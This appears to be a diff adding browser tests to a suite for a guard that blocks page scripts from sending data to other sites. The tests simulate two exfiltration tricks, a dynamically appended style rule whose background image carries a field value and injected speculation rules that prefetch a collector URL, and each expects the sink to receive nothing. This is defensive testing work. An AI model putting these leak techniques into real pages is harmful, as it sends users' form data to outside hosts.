@@ -208,3 +208,37 @@ describe('senders the guard did not wrap before', function () {
     expect(run.blocked.map((detail) => detail.effect?.url), 'blocked events').to.satisfy((urls: unknown[]) => urls.some((url) => String(url).includes('127.0.0.1:9')));
   });
 });
+
+describe('a load the page asks the browser for by rules', function () {
+  this.timeout(30_000);
+
+  // The element judged was the very node being inserted: removing it from its (no) parent did nothing.
+  it("a <style> the handler makes and appends whole, its picture on another site carrying the field's value", async () => {
+    await attack({
+      page: save,
+      setup: (root) => root.querySelector('button')!.addEventListener('click', () => {
+        const style = document.createElement('style');
+        style.className = 'round19-frame';
+        style.textContent = `body { background-image: url(${sink.url('/pixel?e=ada@example.com')}) }`;
+        document.head.append(style);
+      }),
+    });
+    expect(await sink.received(1500), 'what reached the other site').to.deep.equal([]);
+  });
+
+  it("speculation rules added during the action, prefetching another site with the field's value", async function () {
+    if (!HTMLScriptElement.supports?.('speculationrules')) this.skip(); // Chromium only
+    const rules = (to: string) => JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }], prerender: [{ source: 'list', urls: [`${to}&r=1`] }] });
+    await attack({
+      page: save,
+      setup: (root) => root.querySelector('button')!.addEventListener('click', () => {
+        const script = document.createElement('script');
+        script.type = 'speculationrules';
+        script.className = 'round19-frame';
+        script.textContent = rules(sink.url('/collect?e=ada@example.com'));
+        document.head.append(script);
+      }),
+    });
+    expect(await sink.received(1500), 'what reached the other site').to.deep.equal([]);
+  });
+});
